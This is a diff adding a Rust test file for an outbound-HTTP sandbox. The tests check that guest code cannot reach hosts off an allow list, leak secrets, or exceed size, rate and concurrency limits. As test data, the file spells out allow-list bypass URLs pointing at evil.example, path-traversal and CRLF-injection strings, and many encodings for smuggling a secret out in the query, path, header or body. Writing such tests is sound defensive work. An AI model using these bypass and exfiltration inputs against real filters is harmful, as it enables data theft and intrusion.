@@ -1,0 +1,318 @@
+//! What a guest may not do: go elsewhere, write secrets, exceed its limits. Each refusal says why and quotes nothing.
+
+mod outbound_support;
+
+use std::sync::{Arc, Mutex, mpsc};
+use std::time::{Duration, Instant};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+use outbound_support::{
+    Answers, KEY, Setup, TOKEN, Upstream, assert_no_secret, channel, get, request, response, send,
+};
+use serde_json::json;
+use tinclaw::services::http::{OutboundError, OutboundHttp, OutboundHttpSettings, OutboundRequest};
+use tinclaw::services::secrets::{MemorySecrets, Secret};
+
+const URL: &str = "https://api.example.com/x";
+
+fn percent(value: &str) -> String {
+    value.bytes().map(|b| format!("%{b:02x}")).collect()
+}
+
+fn hex(value: &str) -> String {
+    value.bytes().map(|b| format!("{b:02x}")).collect()
+}
+
+#[test]
+fn places_off_the_allow_list_are_never_asked() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let http =
+        json!({"allowlist": [{"host": "api.example.com", "path_prefix": "/api/", "methods": ["GET"]}]});
+    let resolver = Answers::new(&[&["127.0.0.1"]]);
+    let channel = Setup::new(http).rewrite("api.example.com", &upstream).resolver(resolver.clone()).build();
+    let rows = [
+        ("another host", "GET", "https://evil.example/api/"),
+        ("subdomain", "GET", "https://x.api.example.com/api/"),
+        ("parent domain", "GET", "https://example.com/api/"),
+        ("host as suffix", "GET", "https://evilapi.example.com/api/"),
+        ("host as prefix", "GET", "https://api.example.com.evil.example/api/"),
+        ("user name trick", "GET", "https://api.example.com@evil.example/api/"),
+        ("backslash trick", "GET", "https://evil.example\\@api.example.com/api/"),
+        ("question mark trick", "GET", "https://evil.example?@api.example.com/api/"),
+        ("fragment trick", "GET", "https://evil.example#@api.example.com/api/"),
+        ("another scheme", "GET", "http://api.example.com/api/"),
+        ("another port", "GET", "https://api.example.com:8443/api/"),
+        ("another path", "GET", "https://api.example.com/admin"),
+        ("out of the path", "GET", "https://api.example.com/api/../admin"),
+        ("out of the path, encoded", "GET", "https://api.example.com/api/%2e%2e/admin"),
+        ("out of the path, encoded slash", "GET", "https://api.example.com/api/..%2fadmin"),
+        ("out of the path, parameters", "GET", "https://api.example.com/api/..;/admin"),
+        ("out of the path, backslash", "GET", "https://api.example.com/api/..\\admin"),
+        ("another method", "POST", "https://api.example.com/api/"),
+        ("tunnel", "CONNECT", "https://api.example.com/api/"),
+        ("trace", "TRACE", "https://api.example.com/api/"),
+        ("method with a line break", "GET / HTTP/1.1\r\nX: y\r\n\r\nGET", "https://api.example.com/api/"),
+        ("trailing dot", "GET", "https://api.example.com./api/"),
+        ("line break", "GET", "https://api.example.com/api/\r\nX: y"),
+    ];
+    for (what, method, url) in rows {
+        let error = send(&channel, request(method, url, "{}", None)).unwrap_err();
+        assert!(
+            matches!(error, OutboundError::NotAllowed(_) | OutboundError::Url(_) | OutboundError::Method),
+            "{what}: {error:?}"
+        );
+    }
+    assert_eq!(resolver.count(), 0);
+    assert_eq!(upstream.connections(), 0);
+    send(&channel, get("https://api.example.com/api/x")).unwrap();
+}
+
+#[test]
+fn a_channel_without_an_allow_list_goes_nowhere() {
+    let channel = Setup::new(json!({})).build();
+    assert!(matches!(send(&channel, get(URL)), Err(OutboundError::NotAllowed(_))));
+}
+
+#[test]
+fn every_encoding_of_a_secret_is_stopped_wherever_it_stands() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let channel = channel(&upstream);
+    let forms = [
+        ("raw", KEY.to_owned()),
+        ("inside", format!("xx{KEY}yy")),
+        ("percent", percent(KEY)),
+        ("percent in capitals", percent(KEY).to_uppercase()),
+        ("partly percent", KEY.replace('0', "%30")),
+        ("percent twice", percent(KEY).replace('%', "%25")),
+        ("base64", STANDARD.encode(KEY)),
+        ("base64 shifted by one", STANDARD.encode(format!("a{KEY}"))),
+        ("base64 shifted by two", STANDARD.encode(format!("ab{KEY}c"))),
+        ("base64 of a pair", STANDARD.encode(format!("user:{KEY}"))),
+        ("base64 URL-safe", URL_SAFE_NO_PAD.encode(format!("??{KEY}??"))),
+        ("hex", hex(KEY)),
+        ("hex in capitals", hex(KEY).to_uppercase()),
+    ];
+    for (what, form) in &forms {
+        let places = [
+            ("query", request("GET", &format!("{URL}?q={form}"), "{}", None)),
+            ("path", request("GET", &format!("https://api.example.com/{form}"), "{}", None)),
+            ("header", request("GET", URL, &json!({"x-data": form}).to_string(), None)),
+            ("body", request("POST", URL, "{}", Some(form.as_bytes()))),
+            ("JSON body", request("POST", URL, "{}", Some(json!({"text": form}).to_string().as_bytes()))),
+        ];
+        for (place, request) in places {
+            let error = send(&channel, request).expect_err(&format!("{what} in {place}"));
+            // A path with per cent signs encoded twice is refused for that already.
+            let fits = matches!(&error, OutboundError::Leak { secret, .. } if secret == "key");
+            assert!(fits || matches!(error, OutboundError::Url(_)), "{what} in {place}: {error}");
+            assert_no_secret(&format!("{error} {error:?}"));
+        }
+    }
+    let in_other_places = [
+        ("header name", request("GET", URL, &json!({KEY: "x"}).to_string(), None)),
+        ("dropped header", request("GET", URL, &json!({"Host": KEY}).to_string(), None)),
+        ("fragment", request("GET", &format!("{URL}#{KEY}"), "{}", None)),
+        ("JSON escapes", request("POST", URL, "{}", Some(KEY.replace('k', "\\u006b").as_bytes()))),
+        (
+            "JSON escapes in headers",
+            request("GET", URL, &format!(r#"{{"x": "{}"}}"#, KEY.replace('k', "\\u006b")), None),
+        ),
+        ("binary body", request("POST", URL, "{}", Some(&[b"\xff\xfe\0", KEY.as_bytes(), b"\xff"].concat()))),
+        ("odd secret in JSON", request("POST", URL, "{}", Some(json!([TOKEN]).to_string().as_bytes()))),
+        (
+            "odd secret in a form",
+            request(
+                "POST",
+                URL,
+                "{}",
+                Some(
+                    url::form_urlencoded::Serializer::new(String::new())
+                        .append_pair("t", TOKEN)
+                        .finish()
+                        .as_bytes(),
+                ),
+            ),
+        ),
+    ];
+    for (what, request) in in_other_places {
+        let error = send(&channel, request).expect_err(what);
+        assert!(matches!(error, OutboundError::Leak { .. }), "{what}: {error}");
+        assert_no_secret(&format!("{error} {error:?}"));
+    }
+    assert_eq!(upstream.connections(), 0);
+}
+
+#[test]
+fn refusals_before_the_search_for_secrets_quote_none_either() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let channel = channel(&upstream);
+    let twice = format!(r#"{{"{KEY}": "a", "{KEY}": "b"}}"#);
+    let rows = [
+        ("host", request("GET", &format!("https://{KEY}.evil.example/"), "{}", None)),
+        ("user", request("GET", &format!("https://{KEY}@api.example.com/"), "{}", None)),
+        ("port", request("GET", &format!("https://api.example.com:99/{KEY}"), "{}", None)),
+        ("method", request(KEY, URL, "{}", None)),
+        ("header name twice", request("GET", URL, &twice, None)),
+        ("header value", request("GET", URL, &json!({KEY: format!("{KEY}\n")}).to_string(), None)),
+        ("header name", request("GET", URL, &json!({format!("{KEY} x"): "a"}).to_string(), None)),
+        ("no JSON", request("GET", URL, &format!("{{{KEY}"), None)),
+    ];
+    for (what, request) in rows {
+        let error = send(&channel, request).unwrap_err();
+        let text = format!("{error} {error:?}");
+        assert!(!text.contains(KEY), "{what}: {text}");
+    }
+    assert_eq!(upstream.connections(), 0);
+}
+
+#[test]
+fn a_secret_that_the_guest_was_given_may_be_written() {
+    let upstream = Upstream::fixed(response(200, "", KEY));
+    let http = json!({"allowlist": [{"host": "api.example.com"}]});
+    let channel = Setup::new(http).rewrite("api.example.com", &upstream).handed_out("KEY").build();
+    let answer = send(&channel, request("POST", URL, "{}", Some(KEY.as_bytes()))).unwrap();
+    assert_eq!(answer.response.body, KEY.as_bytes());
+    assert!(matches!(
+        send(&channel, request("POST", URL, "{}", Some(TOKEN.as_bytes()))),
+        Err(OutboundError::Leak { .. })
+    ));
+}
+
+#[test]
+fn a_secret_that_was_just_stored_is_guarded_at_once() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let secrets = Arc::new(MemorySecrets::new());
+    let http = json!({"allowlist": [{"host": "api.example.com"}]});
+    let channel =
+        Setup::new(http).secrets(Arc::clone(&secrets)).rewrite("api.example.com", &upstream).build();
+    let write = || send(&channel, request("POST", URL, "{}", Some(b"the new value")));
+    assert!(write().is_ok());
+    secrets.set("fresh", Secret::from("the new value")).unwrap();
+    assert!(matches!(write(), Err(OutboundError::Leak { .. })));
+}
+
+#[test]
+fn headers_that_are_no_object_of_strings_are_an_error() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let channel = channel(&upstream);
+    for headers in ["", "null", "[]", "\"x\"", r#"{"a": 1}"#, r#"{"a": "b\r\nc: d"}"#, r#"{"a b": "c"}"#, "{"]
+    {
+        let error = send(&channel, request("GET", URL, headers, None)).unwrap_err();
+        assert!(matches!(error, OutboundError::Headers(_)), "{headers}: {error}");
+    }
+    assert_eq!(upstream.connections(), 0);
+}
+
+#[test]
+fn a_body_at_the_limit_goes_and_one_byte_more_does_not() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let http = json!({"allowlist": [{"host": "api.example.com"}], "max_request_bytes": 100});
+    let channel = Setup::new(http).rewrite("api.example.com", &upstream).build();
+    send(&channel, request("POST", URL, "{}", Some(&[b'x'; 100]))).unwrap();
+    let error = send(&channel, request("POST", URL, "{}", Some(&[b'x'; 101]))).unwrap_err();
+    assert!(matches!(error, OutboundError::RequestTooLarge { size: 101, limit: 100 }), "{error}");
+    assert_eq!(upstream.only().body.len(), 100);
+}
+
+#[test]
+fn a_callback_has_fifty_requests_by_default() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let channel = channel(&upstream);
+    let deadline = || Instant::now() + Duration::from_secs(20);
+    channel.request(get(URL), deadline(), 49).unwrap();
+    let error = channel.request(get(URL), deadline(), 50).unwrap_err();
+    assert!(matches!(error, OutboundError::TooManyInCallback { limit: 50 }), "{error}");
+}
+
+#[test]
+fn requests_per_minute_are_limited_and_refused_ones_do_not_count() {
+    let upstream = Upstream::fixed(response(200, "", ""));
+    let http = json!({"allowlist": [{"host": "api.example.com"}], "max_request_bytes": 10,
+        "rate_limit": {"requests_per_minute": 2, "requests_per_hour": 100}});
+    let channel = Setup::new(http).rewrite("api.example.com", &upstream).build();
+    for _ in 0..5 {
+        assert!(send(&channel, request("POST", URL, "{}", Some(&[b'x'; 11]))).is_err());
+        assert!(send(&channel, get("https://evil.example/")).is_err());
+        assert!(send(&channel, request("POST", URL, "{}", Some(KEY.as_bytes()))).is_err());
+    }
+    send(&channel, get(URL)).unwrap();
+    send(&channel, get(URL)).unwrap();
+    let error = send(&channel, get(URL)).unwrap_err();
+    assert!(
+        matches!(error, OutboundError::RateLimited { retry_after } if retry_after <= Duration::from_secs(30)),
+        "{error:?}"
+    );
+}
+
+#[test]
+fn one_channel_has_so_many_requests_at_once_and_room_comes_back() {
+    let (arrived, has_arrived) = mpsc::channel();
+    let (go, gate) = mpsc::channel::<()>();
+    let (arrived, gate) = (Mutex::new(arrived), Mutex::new(gate));
+    let upstream = Upstream::start(move |_, stream| {
+        use std::io::Write as _;
+        arrived.lock().unwrap().send(()).unwrap();
+        gate.lock().unwrap().recv().unwrap();
+        stream.write_all(&response(200, "", "")).is_ok()
+    });
+    let http = json!({"allowlist": [{"host": "api.example.com"}], "max_concurrent_requests": 1});
+    let channel = Setup::new(http).rewrite("api.example.com", &upstream).build();
+    std::thread::scope(|scope| {
+        let first = scope.spawn(|| send(&channel, get(URL)));
+        has_arrived.recv().unwrap();
+        let error = send(&channel, get(URL)).unwrap_err();
+        assert!(matches!(error, OutboundError::TooManyAtOnce { limit: 1 }), "{error}");
+        go.send(()).unwrap();
+        first.join().unwrap().unwrap();
+        go.send(()).unwrap();
+        send(&channel, get(URL)).unwrap();
+    });
+}
+
+#[test]
+fn checks_come_in_their_order() {
+    let resolver = Answers::new(&[&["10.0.0.1"]]);
+    let http = json!({
+        "allowlist": [{"host": "api.example.com"}], "max_request_bytes": 0,
+        "credentials": {"g": {"secret_name": "gone", "location": {"type": "bearer"}, "host_patterns": ["api.example.com"]}}
+    });
+    let make = |http: serde_json::Value| Setup::new(http).resolver(resolver.clone()).build();
+    let worst = || request("POST", "https://evil.example/", "not json", Some(KEY.as_bytes()));
+    let channel = make(http.clone());
+    assert!(matches!(send(&channel, worst()), Err(OutboundError::NotAllowed(_))));
+    let step_2 = OutboundRequest { url: URL.to_owned(), ..worst() };
+    assert!(matches!(send(&channel, step_2.clone()), Err(OutboundError::Headers(_))));
+    let step_3 = OutboundRequest { headers_json: "{}".to_owned(), ..step_2 };
+    assert!(matches!(send(&channel, step_3.clone()), Err(OutboundError::Leak { .. })));
+    let step_4 = OutboundRequest { body: Some(b"harmless".to_vec()), ..step_3 };
+    assert!(matches!(send(&channel, step_4.clone()), Err(OutboundError::RequestTooLarge { .. })));
+    assert_eq!(resolver.count(), 0);
+    let step_5 = OutboundRequest { body: None, ..step_4 };
+    assert!(matches!(send(&channel, step_5.clone()), Err(OutboundError::Address { .. })));
+    assert_eq!(resolver.count(), 1);
+    let public = Answers::new(&[&["192.0.1.1"]]);
+    let channel = Setup::new(http).resolver(public).build();
+    assert!(matches!(send(&channel, step_5), Err(OutboundError::MissingSecret { .. })));
+}
+
+#[test]
+fn settings_that_cannot_be_meant_are_refused_at_start() {
+    let with = |change: fn(&mut OutboundHttpSettings)| {
+        let mut settings = OutboundHttpSettings::default();
+        change(&mut settings);
+        OutboundHttp::new(&settings).map(|_| ()).unwrap_err().to_string()
+    };
+    let rewrite = |base: &str| {
+        let mut settings = OutboundHttpSettings::default();
+        settings.http_rewrite.insert("api.example.com".to_owned(), base.to_owned());
+        OutboundHttp::new(&settings).map(|_| ())
+    };
+    assert!(with(|s| s.allow_private_hosts = vec!["10.0.0.0/99".into()]).contains("10.0.0.0/99"));
+    assert!(with(|s| s.proxy = Some("not a proxy".into())).contains("proxy"));
+    assert!(with(|s| s.root_certificates_pem = Some("no pem".into())).contains("root_certificates_pem"));
+    for base in ["", "127.0.0.1:80", "ftp://h", "http://u:p@h", "http://h/?q", "http://h/#f", "http://h:0"] {
+        assert!(rewrite(base).is_err(), "{base}");
+    }
+    assert!(rewrite("http://127.0.0.1:8081/base/").is_ok());
+}
